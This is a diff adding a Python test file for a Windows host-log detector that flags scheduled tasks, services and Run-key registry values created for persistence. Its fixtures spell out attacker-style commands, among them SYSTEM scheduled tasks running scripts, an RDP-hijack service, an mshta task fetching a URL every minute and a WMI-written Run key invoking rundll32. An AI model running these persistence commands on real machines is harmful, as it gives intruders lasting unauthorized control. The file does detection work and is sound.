@@ -1,0 +1,325 @@
+"""Tasks and services made on the host itself (DQ-HOST-018): persistence or local execution,
+not lateral movement; severity from what they run, known-good updaters quiet. Real samples
+from mdecrevoisier/EVTX-to-MITRE-Attack (CC0, tests/data/PROVENANCE.md) and synthetic JSON
+exports (host_builders.event_line)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from host_builders import event_line
+
+from duqhunt.hostscan import scan_host
+from duqhunt.model import Finding
+
+DATA = Path(__file__).resolve().parents[1] / "data" / "host"
+SYSMON = "Microsoft-Windows-Sysmon/Operational"
+
+
+def _by(findings: list[Finding], det: str) -> list[Finding]:
+    return [f for f in findings if f.detector == det]
+
+
+def _d(f: Finding) -> dict[str, object]:
+    return dict(f.details)
+
+
+def _scan(tmp_path: Path, lines: list[str]) -> list[Finding]:
+    p = tmp_path / "events.jsonl"
+    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return scan_host([p]).findings
+
+
+# --- real samples ----------------------------------------------------------------------------
+
+
+def test_real_local_system_task_running_a_script_is_persistence() -> None:
+    """schtasks /create /tr C:\\tools\\shell.cmd /ru SYSTEM (4688) and its 4698, one session."""
+    res = scan_host([DATA / "md_schtasks_local_4688_4698.evtx"])
+    hits = _by(res.findings, "DQ-HOST-018")
+    assert len(hits) == 1
+    f = hits[0]
+    assert f.stage == "installation" and f.attack == ("T1053.005",)
+    assert f.severity == "high", f.title
+    d = _d(f)
+    assert d["runs"] == "C:\\tools\\shell.cmd" and d["name"] == "\\eviltask"
+    assert "runs a script" in str(d["reasons"]) and "SYSTEM" in str(d["reasons"])
+    # the 4688 and the 4698 are one finding
+    assert {e.summary for e in f.evidence} == {"event 4688", "event 4698"}
+    assert _by(res.findings, "DQ-HOST-009") == [] and _by(res.findings, "DQ-HOST-011") == []
+
+
+def test_real_local_service_running_a_shell() -> None:
+    """sc.exe create hijackservice binpath= "cmd.exe /k tscon ..." and its 4697 (RDP hijack)."""
+    res = scan_host([DATA / "md_sc_create_rdp_hijack_4688_4697.evtx"])
+    hits = _by(res.findings, "DQ-HOST-018")
+    assert len(hits) == 1
+    f = hits[0]
+    assert f.attack == ("T1543.003",) and f.severity == "high"
+    assert str(_d(f)["runs"]).startswith("cmd.exe /k tscon")
+    assert [x for x in res.findings if x.stage == "lateral-movement"] == []
+
+
+def test_real_service_path_changed_to_a_temp_folder() -> None:
+    """sc config xboxgip binPath= C:\\windows\\system32\\pentestlab.exe, then reg add
+    ...\\Services\\xboxgip /v ImagePath /d C:\\tmp\\pentestlab.exe: the worse value counts."""
+    res = scan_host([DATA / "md_sc_config_reg_imagepath_4688.evtx"])
+    hits = _by(res.findings, "DQ-HOST-018")
+    assert len(hits) == 1
+    d = _d(hits[0])
+    assert d["runs"] == "C:\\tmp\\pentestlab.exe" and hits[0].severity == "high"
+    assert len(hits[0].evidence) == 2
+
+
+# --- synthetic exports -----------------------------------------------------------------------
+
+
+def _proc(t: str, image: str, command: str, lid: str = "0x51a2", rec: int = 1) -> str:
+    return event_line(
+        t,
+        4688,
+        {
+            "NewProcessName": image,
+            "CommandLine": command,
+            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
+            "SubjectLogonId": lid,
+            "SubjectUserName": "alice",
+            "SubjectDomainName": "CORP",
+            "TargetLogonId": "0x0",
+            "ProcessId": "0x1f0",
+        },
+        record=rec,
+    )
+
+
+def _task(t: str, name: str, command: str, user: str, lid: str = "0x51a2", rec: int = 2) -> str:
+    content = (
+        '<Task><Actions Context="Author"><Exec><Command>'
+        + command
+        + '</Command></Exec></Actions><Principals><Principal id="Author"><UserId>'
+        + user
+        + "</UserId></Principal></Principals></Task>"
+    )
+    return event_line(
+        t,
+        4698,
+        {
+            "SubjectLogonId": lid,
+            "SubjectUserName": "alice",
+            "SubjectDomainName": "CORP",
+            "TaskName": name,
+            "TaskContent": content,
+        },
+        record=rec,
+    )
+
+
+SCHTASKS = "C:\\Windows\\System32\\schtasks.exe"
+
+
+def test_system_task_running_a_script_from_temp_is_high(tmp_path: Path) -> None:
+    cmd = "C:\\Users\\alice\\AppData\\Local\\Temp\\u.ps1"
+    findings = _scan(
+        tmp_path,
+        [
+            _proc(
+                "2024-03-05T10:00:00Z", SCHTASKS, f"schtasks /create /tn Upd /tr {cmd} /ru SYSTEM"
+            ),
+            _task("2024-03-05T10:00:01Z", "\\Upd", cmd, "S-1-5-18"),
+        ],
+    )
+    hits = _by(findings, "DQ-HOST-018")
+    assert len(hits) == 1 and hits[0].severity == "high"
+    reasons = str(_d(hits[0])["reasons"])
+    assert "writable folder" in reasons and "runs a script" in reasons
+    assert not _by(findings, "DQ-HOST-009") and not _by(findings, "DQ-HOST-011")
+
+
+def test_admin_task_running_a_program_files_binary_is_low(tmp_path: Path) -> None:
+    cmd = "C:\\Program Files\\Backup\\backup.exe"
+    findings = _scan(
+        tmp_path,
+        [
+            _proc("2024-03-05T10:00:00Z", SCHTASKS, f'schtasks /create /tn Nightly /tr "{cmd}"'),
+            _task("2024-03-05T10:00:01Z", "\\Nightly", cmd, "CORP\\alice"),
+        ],
+    )
+    hits = _by(findings, "DQ-HOST-018")
+    assert len(hits) == 1 and hits[0].severity == "low"
+
+
+def test_known_good_vendor_updater_task_is_quiet(tmp_path: Path) -> None:
+    good = "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe"
+    fake = "C:\\Users\\alice\\AppData\\Local\\Temp\\GoogleUpdate.exe"
+    findings = _scan(
+        tmp_path,
+        [
+            _proc("2024-03-05T10:00:00Z", SCHTASKS, "schtasks /create /xml g.xml /tn x"),
+            _task("2024-03-05T10:00:01Z", "\\GoogleUpdateTaskMachineUA", good, "S-1-5-18"),
+            _task("2024-03-05T10:00:02Z", "\\GoogleUpdateTaskMachineCore", fake, "S-1-5-18", rec=3),
+        ],
+    )
+    names = [_d(f)["name"] for f in _by(findings, "DQ-HOST-018")]
+    # the genuine updater is quiet; the same name running a copy in Temp is not
+    assert "\\GoogleUpdateTaskMachineUA" not in names
+    assert "\\GoogleUpdateTaskMachineCore" in names
+
+
+def test_task_made_for_another_host_is_not_local(tmp_path: Path) -> None:
+    findings = _scan(
+        tmp_path,
+        [_proc("2024-03-05T10:00:00Z", SCHTASKS, "schtasks /create /s fs02 /tn t /tr c:\\x.exe")],
+    )
+    assert not _by(findings, "DQ-HOST-018")
+    assert _by(findings, "DQ-HOST-015")
+
+
+def test_task_from_a_network_logon_stays_lateral_movement(tmp_path: Path) -> None:
+    """The same 4698 in a session that logged on over the network (atexec) is DQ-HOST-009's."""
+    logon = event_line(
+        "2024-03-05T09:59:59Z",
+        4624,
+        {
+            "LogonType": "3",
+            "TargetLogonId": "0x77aa",
+            "TargetUserName": "adm",
+            "TargetDomainName": "CORP",
+            "IpAddress": "10.1.2.3",
+        },
+    )
+    findings = _scan(
+        tmp_path,
+        [logon, _task("2024-03-05T10:00:00Z", "\\x", "cmd.exe /c whoami", "S-1-5-18", "0x77aa")],
+    )
+    assert not _by(findings, "DQ-HOST-018")
+    assert [f.severity for f in _by(findings, "DQ-HOST-009")] == ["high"]
+
+
+def test_sysmon_schtasks_running_mshta_url(tmp_path: Path) -> None:
+    line = event_line(
+        "2024-03-05T10:00:00Z",
+        1,
+        {
+            "Image": SCHTASKS,
+            "CommandLine": 'schtasks /Create /sc MINUTE /TN MSOFFICE_ /TR "mshta.exe https://x.test/a"',
+            "ParentImage": "C:\\Windows\\System32\\mshta.exe",
+            "User": "WS1\\bob",
+            "LogonId": "0x1234",
+            "ProcessId": "400",
+            "ParentProcessId": "300",
+        },
+        channel=SYSMON,
+    )
+    hits = _by(_scan(tmp_path, [line]), "DQ-HOST-018")
+    assert len(hits) == 1 and hits[0].severity == "high"
+    reasons = str(_d(hits[0])["reasons"])
+    assert "URL" in reasons and "created by mshta.exe" in reasons
+
+
+def test_dash_syntax_and_installer_tasks(tmp_path: Path) -> None:
+    """schtasks takes -create -tn as well as /create /tn; tasks an installer registers in
+    Windows' own folder from an XML (Windows Update's rempl, seen in a real Sysmon log) are
+    known-good, a script in Users\\Public is not."""
+    findings = _scan(
+        tmp_path,
+        [
+            _proc(
+                "2024-03-05T10:00:00Z",
+                SCHTASKS,
+                "schtasks.exe -create -tn Microsoft\\Windows\\rempl\\shell -xml rempl.xml -F",
+            ),
+            _proc(
+                "2024-03-05T10:00:05Z",
+                SCHTASKS,
+                "schtasks.exe -create -tn Sync -tr C:\\Users\\Public\\sync.bat -ru SYSTEM",
+                rec=2,
+            ),
+        ],
+    )
+    hits = {str(_d(f)["name"]): f for f in _by(findings, "DQ-HOST-018")}
+    assert set(hits) == {"Sync"}
+    assert hits["Sync"].severity == "high"
+
+
+# --- registry values (Sysmon 13) -------------------------------------------------------------
+
+
+def _regset(t: str, image: str, target: str, details: str, rec: int = 1) -> str:
+    return event_line(
+        t,
+        13,
+        {"EventType": "SetValue", "Image": image, "TargetObject": target, "Details": details},
+        channel=SYSMON,
+        record=rec,
+    )
+
+
+RUN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\"
+
+
+def test_run_key_written_through_wmi_is_high(tmp_path: Path) -> None:
+    """WMI's StdRegProv (a script or another host) setting a Run value that runs rundll32: the
+    registry write WmiPrvSE.exe makes for a remote `reg` over WMI."""
+    line = _regset(
+        "2024-03-05T10:00:00Z",
+        "C:\\Windows\\system32\\wbem\\wmiprvse.exe",
+        RUN + "wmipers",
+        "rundll32.exe a.dll, DllMain",
+    )
+    hits = _by(_scan(tmp_path, [line]), "DQ-HOST-018")
+    assert len(hits) == 1
+    f = hits[0]
+    assert f.severity == "high" and f.attack == ("T1547.001", "T1047")
+    assert _d(f)["kind"] == "run-key" and _d(f)["name"] == "wmipers"
+
+
+def test_hidden_run_value_and_quiet_writers(tmp_path: Path) -> None:
+    lines = [
+        # a Run value whose name does not show (a leading NUL), running from Windows\Tasks
+        _regset(
+            "2024-03-05T10:00:00Z",
+            "C:\\Users\\Public\\a.exe",
+            RUN,
+            '"c:\\windows\\tasks\\taskhost.exe"',
+        ),
+        # the Service Control Manager recording an install: DQ-HOST-010 reads its 7045
+        _regset(
+            "2024-03-05T10:00:01Z",
+            "C:\\Windows\\system32\\services.exe",
+            "HKLM\\System\\CurrentControlSet\\Services\\x\\ImagePath",
+            "C:\\Users\\Public\\x.exe",
+            rec=2,
+        ),
+        # Process Monitor registering its driver (known good)
+        _regset(
+            "2024-03-05T10:00:02Z",
+            "C:\\Users\\tony\\AppData\\Local\\Temp\\Procmon64.exe",
+            "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\PROCMON23\\ImagePath",
+            "\\??\\C:\\Windows\\system32\\Drivers\\PROCMON23.SYS",
+            rec=3,
+        ),
+        # a value the detector does not read
+        _regset(
+            "2024-03-05T10:00:03Z",
+            "C:\\Users\\Public\\a.exe",
+            "HKLM\\System\\CurrentControlSet\\Services\\x\\Start",
+            "DWORD (0x00000002)",
+            rec=4,
+        ),
+    ]
+    hits = _by(_scan(tmp_path, lines), "DQ-HOST-018")
+    assert len(hits) == 1, [f.title for f in hits]
+    assert hits[0].severity == "high"
+    assert "no visible name" in str(_d(hits[0])["reasons"])
+
+
+def test_registry_events_filtered_before_decoding() -> None:
+    """Only the Sysmon 13 of autorun values are decoded (a Sysmon log holds thousands of
+    registry events)."""
+    from duqhunt.sources.host.eventlog import WANTED, _wanted_text
+
+    run = _regset("2024-03-05T10:00:00Z", "C:\\x.exe", RUN + "v", "c:\\x.exe")
+    other = _regset("2024-03-05T10:00:00Z", "C:\\x.exe", RUN[:-4] + "Policies\\v", "1")
+    # the EVTX reader sees the record's JSON without spaces after the colons
+    assert _wanted_text(run.replace('": ', '":'), WANTED)
+    assert not _wanted_text(other.replace('": ', '":'), WANTED)
